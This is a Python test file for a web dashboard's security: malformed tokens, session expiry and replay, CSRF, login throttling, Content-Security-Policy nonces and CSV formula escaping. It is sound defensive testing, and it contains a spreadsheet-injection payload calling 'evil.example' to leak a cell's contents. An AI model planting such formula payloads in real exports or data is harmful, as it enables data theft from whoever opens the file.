"""The web surface under attack (issue 11, item 12): malformed tokens, the session cookie,
write tokens on the dashboard, the login throttle and CSRF token, the Content-Security-Policy,
and formula injection in CSV exports. Against the real application and PostgreSQL."""

from __future__ import annotations

import asyncio
import csv
import io
import re
from html import unescape

import pytest
from aiohttp.test_utils import TestClient

from astguard.policy import CallRequest
from astguard.store.directory import Directory
from astguard.store.database import Database
from astguard.surfaces.report_render import csv_cell
from astguard.surfaces.web_security import LoginThrottle, Sessions
from tests.test_dashboard import P, READ, WRITE, _login, client, csrf_of_login_form, env  # noqa: F401

pytestmark = pytest.mark.db


async def raw_get(client: TestClient, path: str, header: bytes) -> int:
    """A GET with a header as raw bytes (no HTTP client sends non-ASCII or invalid UTF-8)."""
    reader, writer = await asyncio.open_connection("127.0.0.1", client.server.port)
    writer.write(b"GET " + path.encode() + b" HTTP/1.1\r\nHost: x\r\n" + header
                 + b"\r\nConnection: close\r\n\r\n")
    await writer.drain()
    status = int((await reader.readline()).split()[1])
    writer.close()
    await writer.wait_closed()
    return status


@pytest.mark.parametrize("header", [
    "Authorization: Bearer jéton-à-accents-0123".encode(),
    b"Authorization: Bearer \xe9\xe8-not-utf8-0123456789",
    "Authorization: Bearer ✓✓✓✓✓✓✓✓✓✓✓✓✓✓✓✓".encode(),
    b"Authorization: Bearer",
    b"Authorization: Basic YWxhZGRpbjpvcGVuc2VzYW1l",
])
async def test_malformed_tokens_are_unknown_not_a_crash(client, header):
    assert await raw_get(client, "/v1/decisions", header) == 401
    assert await raw_get(client, "/tableau/flux", header) == 401
    assert await raw_get(client, "/tableau/", header) == 303  # to the sign-in form


async def test_a_non_ascii_token_on_the_sign_in_form_is_unknown(client):
    resp = await client.post("/tableau/connexion", data={
        "jeton": "jéton-à-accents-0123", "csrf": await csrf_of_login_form(client)})
    assert resp.status == 401 and "Jeton inconnu" in await resp.text()


async def test_the_cookie_holds_a_session_that_ends_at_sign_out(client):
    await _login(client)
    cookies = {c.key: c.value for c in client.session.cookie_jar}
    assert READ not in cookies.values() and len(cookies["astguard_session"]) >= 40
    assert (await client.get("/v1/decisions")).status == 200
    stolen = cookies["astguard_session"]
    await client.get("/tableau/deconnexion")
    # The server forgot the session: replaying the old cookie reads nothing.
    resp = await client.get("/v1/decisions", cookies={"astguard_session": stolen})
    assert resp.status == 401


def test_sessions_expire():
    now = [1000.0]
    sessions = Sessions(lifetime=60, clock=lambda: now[0])
    sid = sessions.open("read")
    assert sessions.right(sid) == "read" and sessions.right("forged") is None
    now[0] += 61
    assert sessions.right(sid) is None


async def test_write_tokens_cannot_sign_in(client):
    resp = await client.post("/tableau/connexion", data={
        "jeton": WRITE, "csrf": await csrf_of_login_form(client)}, allow_redirects=False)
    assert resp.status == 403
    assert "Un jeton d'écriture n'ouvre pas le tableau de bord" in unescape(await resp.text())
    assert "astguard_session" not in resp.cookies
    assert (await client.get("/tableau/", allow_redirects=False)).status == 303


async def test_sign_in_needs_the_form_csrf_token(client):
    resp = await client.post("/tableau/connexion", data={"jeton": READ},
                             allow_redirects=False)
    assert resp.status == 403 and "astguard_session" not in resp.cookies
    await csrf_of_login_form(client)  # the cookie is set, but a forged form cannot read it
    resp = await client.post("/tableau/connexion", data={"jeton": READ, "csrf": "guessed"},
                             allow_redirects=False)
    assert resp.status == 403 and "Formulaire expiré" in await resp.text()


async def test_sign_in_is_throttled_after_five_failures(client):
    for _ in range(5):
        resp = await client.post("/tableau/connexion", data={
            "jeton": "wrong-token-0123456789", "csrf": await csrf_of_login_form(client)})
        assert resp.status == 401
    resp = await client.post("/tableau/connexion", data={
        "jeton": READ, "csrf": await csrf_of_login_form(client)}, allow_redirects=False)
    assert resp.status == 429
    assert "Trop d'essais de connexion depuis cette adresse" in unescape(await resp.text())
    assert "astguard_session" not in resp.cookies


def test_throttle_counts_per_address_in_a_sliding_minute():
    now = [0.0]
    throttle = LoginThrottle(limit=5, window=60, clock=lambda: now[0])
    for _ in range(5):
        throttle.failed("10.0.0.1")
    assert throttle.blocked("10.0.0.1") and not throttle.blocked("10.0.0.2")
    now[0] += 61
    assert not throttle.blocked("10.0.0.1")


async def test_every_page_sends_a_content_security_policy(client):
    resp = await client.get("/tableau/connexion")
    assert "default-src 'none'" in resp.headers["Content-Security-Policy"]
    await _login(client)
    for path in ("/tableau/", "/tableau/refus", "/tableau/consommateur", "/tableau/campagnes",
                 "/tableau/campagne/tb-prospect", f"/tableau/rapport?principal={P}",
                 "/tableau/consommateur?numero=12ab",
                 f"/v1/reports/inspection?format=html&principal={P}"):
        resp = await client.get(path)
        text = await resp.text()
        policy = resp.headers["Content-Security-Policy"]
        nonce = re.search(r"style-src 'nonce-([^']+)'", policy)[1]
        assert "unsafe-inline" not in policy and "frame-ancestors 'none'" in policy, path
        # Every style and script element carries the nonce; nothing else could run.
        for tag in re.findall(r"<(?:script|style)\b[^>]*>", text):
            assert f'nonce="{nonce}"' in tag or f"nonce={nonce}" in tag, (path, tag)
        assert "javascript:" not in text and not re.search(r"<[^>]*\son[a-z]+=", text), path


@pytest.mark.parametrize(("value", "shown"), [
    ("+33612345678", "'+33612345678"), ("=HYPERLINK(\"http://x\")", "'=HYPERLINK(\"http://x\")"),
    ("-1+1", "'-1+1"), ("@SUM(A1)", "'@SUM(A1)"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("ACME", "ACME"), (42, 42), ("", ""),
])
def test_csv_cells_are_neutralised(value, shown):
    assert csv_cell(value) == shown


async def test_the_inspection_csv_runs_no_formula(client, env):
    url, gate, _ = env
    db = Database(url)
    try:
        await Directory(db).set_endpoint("tb-evil", "tb-prospect", [],
                                         '=HYPERLINK("http://evil.example/?"&A1)')
    finally:
        await db.close()
    await gate.check(CallRequest("0612000001", "ari", endpoint="tb-evil"), record=True)
    resp = await client.get(f"/v1/reports/inspection?format=csv&principal={P}"
                            "&from=2026-11-01&to=2026-11-30",
                            headers={"Authorization": f"Bearer {READ}"})
    text = (await resp.text()).lstrip("\ufeff")
    cells = [c for row in csv.reader(io.StringIO(text), delimiter=";") for c in row]
    assert "'+33612000001" in cells and '\'=HYPERLINK("http://evil.example/?"&A1)' in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
